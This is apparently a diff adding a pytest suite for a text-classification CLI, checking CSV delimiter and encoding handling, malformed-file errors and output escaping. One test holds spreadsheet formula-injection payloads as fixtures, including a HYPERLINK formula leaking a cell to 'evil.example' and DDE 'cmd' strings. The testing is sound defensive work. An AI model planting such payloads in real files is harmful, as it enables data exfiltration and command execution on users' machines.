@@ -1,0 +1,229 @@
+"""``driftless classify`` and ``eval`` on hostile and broken files, on a scripted classifier.
+
+The model's own behaviour on the command line is tested (slow) in
+tests/unit/classify/test_model.py; here the workbench is replaced by one whose classifier
+records every text it is given, so what reaches the model is checked exactly.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from collections.abc import Sequence
+from pathlib import Path
+from types import SimpleNamespace
+from typing import Any, ClassVar
+
+import numpy as np
+import pytest
+
+from app.cli import classify as classify_cmd
+from app.cli import main
+from app.core.cancel import CancelToken
+from app.core.classify.classifier import Classifier, ClassifierInfo, Prediction, make_prediction
+from app.core.classify.labels import LabelSet
+from app.core.classify.library import LabelSetLibrary
+from app.core.classify.runs import RunStore
+from app.core.paths import Paths
+
+SENTENCES = [
+    ("a gripping, moving film", "1"),
+    ("dull; too long, and badly acted", "0"),
+    ('the "twist" is obvious', "0"),
+    ("warm, funny and wise", "1"),
+    ("caf\u00e9 society is charming", "1"),
+    ("an \u00e9pisode too far", "0"),
+]
+POSITIVE_WORDS = ("gripping", "warm", "charming")
+
+
+class KeywordClassifier(Classifier):
+    """ "positive" when a text holds a kind word; remembers every text it was given."""
+
+    def __init__(self, label_set: LabelSet, seen: list[str]) -> None:
+        self.label_set = label_set
+        self.info = ClassifierInfo(
+            method="prompt",
+            label_set=label_set.version_id,
+            labels=label_set.label_names,
+            model_id="scripted",
+            lock_id="scripted@1/model.gguf",
+            threshold=0.5,
+        )
+        self.seen = seen
+
+    def predict(self, texts: Sequence[str], cancel: CancelToken | None = None) -> list[Prediction]:
+        self.seen.extend(texts)
+        return [
+            make_prediction(
+                self.label_set.label_names,
+                np.array([0.2, 0.8] if any(w in t for w in POSITIVE_WORDS) else [0.9, 0.1]),
+                self.info.threshold,
+                False,
+            )
+            for t in texts
+        ]
+
+
+class FakeWorkbench:
+    """The CLI's view of a workbench, without a model."""
+
+    seen: ClassVar[list[str]] = []
+
+    def __init__(self, paths: Paths, _store: object) -> None:
+        self.runs = RunStore.for_paths(paths)
+        self.library = LabelSetLibrary.for_paths(paths)
+
+    def __enter__(self) -> FakeWorkbench:
+        return self
+
+    def __exit__(self, *_exc: object) -> None:
+        self.runs.close()
+
+    def open_model(self, ref: str | None, **_kw: Any) -> SimpleNamespace:
+        return SimpleNamespace(model_id="scripted", weights_note=None)
+
+    def classifier(self, label_set: LabelSet, _options: object, **_kw: Any) -> Classifier:
+        return KeywordClassifier(label_set, self.seen)
+
+
+@pytest.fixture
+def seen(monkeypatch: pytest.MonkeyPatch) -> list[str]:
+    texts: list[str] = []
+    monkeypatch.setattr(FakeWorkbench, "seen", texts)
+    monkeypatch.setattr(classify_cmd, "Workbench", FakeWorkbench)
+    monkeypatch.setattr(classify_cmd, "open_store", lambda: None)
+    return texts
+
+
+def write_table(
+    path: Path,
+    delimiter: str = ",",
+    encoding: str = "utf-8",
+    newline: str = "\n",
+    rows: Sequence[tuple[str, str]] = SENTENCES,
+) -> Path:
+    with path.open("w", encoding=encoding, newline="") as handle:
+        writer = csv.writer(handle, delimiter=delimiter, lineterminator=newline)
+        writer.writerow(["text", "label"])
+        writer.writerows(rows)
+    return path
+
+
+def classify(source: Path, *extra: str) -> int:
+    args = ["classify", "--labels", "negative,positive", "--input", str(source), *extra]
+    return main(args)
+
+
+def output_rows(path: Path) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
+
+
+@pytest.mark.parametrize(
+    ("delimiter", "name", "described"),
+    [("\t", "tickets.csv", "tab-separated"), (";", "excel-fr.csv", "semicolon-separated")],
+)
+def test_the_gold_label_never_reaches_the_prompt_whatever_the_delimiter(
+    tmp_path: Path,
+    seen: list[str],
+    capsys: pytest.CaptureFixture[str],
+    delimiter: str,
+    name: str,
+    described: str,
+) -> None:
+    source = write_table(tmp_path / name, delimiter)
+    out = tmp_path / "out.csv"
+    assert classify(source, "--output", str(out)) == 0
+    err = capsys.readouterr().err
+    assert f"Reading {name} as {described}, UTF-8: texts in 'text', gold labels in 'label'" in err
+    assert seen == [text for text, _ in SENTENCES]
+    rows = output_rows(out)
+    assert [(r["text"], r["gold"]) for r in rows] == SENTENCES
+    labels = ["positive", "negative", "negative", "positive", "positive", "negative"]
+    assert [r["label"] for r in rows] == labels
+
+
+def test_a_latin1_file_is_named_then_read_with_encoding(
+    tmp_path: Path, seen: list[str], capsys: pytest.CaptureFixture[str]
+) -> None:
+    source = write_table(tmp_path / "latin.csv", encoding="latin-1")
+    assert classify(source) == 1
+    err = capsys.readouterr().err
+    assert "latin.csv is not UTF-8 text: it looks like Latin-1 (or Windows-1252)" in err
+    assert "Or pass --encoding latin-1." in err
+    assert seen == []
+    out = tmp_path / "out.csv"
+    assert classify(source, "--encoding", "latin-1", "--output", str(out)) == 0
+    assert "as comma-separated, latin-1" in capsys.readouterr().err
+    assert [r["text"] for r in output_rows(out)] == [text for text, _ in SENTENCES]
+
+
+def test_an_unterminated_quote_is_an_error_naming_its_line_and_nothing_is_stored(
+    tmp_path: Path, seen: list[str], capsys: pytest.CaptureFixture[str], paths: Paths
+) -> None:
+    rows = "".join(f"review number {i},{i % 2}\n" for i in range(10))
+    source = tmp_path / "quote.csv"
+    source.write_text(f'text,label\nfine,1\n"broken start,0\n{rows}', encoding="utf-8")
+    assert classify(source) == 1
+    err = capsys.readouterr().err
+    assert "line 3: opens a quote that is never closed" in err
+    assert seen == [] and RunStore.for_paths(paths).list_runs() == []
+
+
+def test_a_file_where_no_row_is_usable_exits_1(
+    tmp_path: Path, seen: list[str], capsys: pytest.CaptureFixture[str]
+) -> None:
+    source = tmp_path / "empty-texts.csv"
+    source.write_text("text,label\n,1\n  ,0\n", encoding="utf-8")
+    assert classify(source) == 1
+    assert "has no usable rows (2 malformed, e.g. line 2" in capsys.readouterr().err
+
+
+def test_cr_only_line_endings_are_read(
+    tmp_path: Path, seen: list[str], capsys: pytest.CaptureFixture[str]
+) -> None:
+    source = write_table(tmp_path / "classic-mac.csv", newline="\r")
+    out = tmp_path / "out.csv"
+    assert classify(source, "--output", str(out)) == 0
+    assert [(r["line"], r["text"]) for r in output_rows(out)] == [
+        (str(i + 2), text) for i, (text, _) in enumerate(SENTENCES)
+    ]
+
+
+def test_formulas_are_neutralised_in_the_output_but_not_in_the_prompt(
+    tmp_path: Path, seen: list[str], capsys: pytest.CaptureFixture[str]
+) -> None:
+    hostile = [
+        ('=HYPERLINK("http://evil.example/?"&A1,"warm thanks")', "1"),
+        ("+cmd|' /C calc'!A0", "0"),
+        ("-2+3+cmd|' /C calc'!A0", "0"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "-1"),
+        ("a plain complaint", "-1"),
+    ]
+    source = write_table(tmp_path / "tickets.csv", rows=hostile)
+    out = tmp_path / "out.csv"
+    assert classify(source, "--output", str(out)) == 0
+    assert seen == [text for text, _ in hostile]  # the model read them as they are
+    rows = output_rows(out)
+    assert [r["text"] for r in rows] == [
+        "'" + text if text[0] in "=+-@" else text for text, _ in hostile
+    ]
+    assert [r["gold"] for r in rows] == ["1", "0", "0", "-1", "-1"]  # numbers stay numbers
+    assert classify(source) == 0  # results on stdout are written the same way
+    stdout = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    assert stdout[1][2] == "'" + hostile[0][0]
+
+
+def test_eval_reads_a_semicolon_latin1_file_with_encoding(
+    tmp_path: Path, seen: list[str], capsys: pytest.CaptureFixture[str]
+) -> None:
+    source = write_table(tmp_path / "gold.csv", ";", encoding="cp1252")
+    command = ["eval", "--labels", "negative,positive", "--input", str(source), "--json"]
+    assert main(command) == 1
+    assert "Or pass --encoding latin-1." in capsys.readouterr().err
+    assert main([*command, "--encoding", "cp1252"]) == 0
+    captured = capsys.readouterr()
+    assert "Reading gold.csv as semicolon-separated, cp1252" in captured.err
+    report = json.loads(captured.out)
+    assert report["n"] == 6 and report["accuracy"] == 1.0
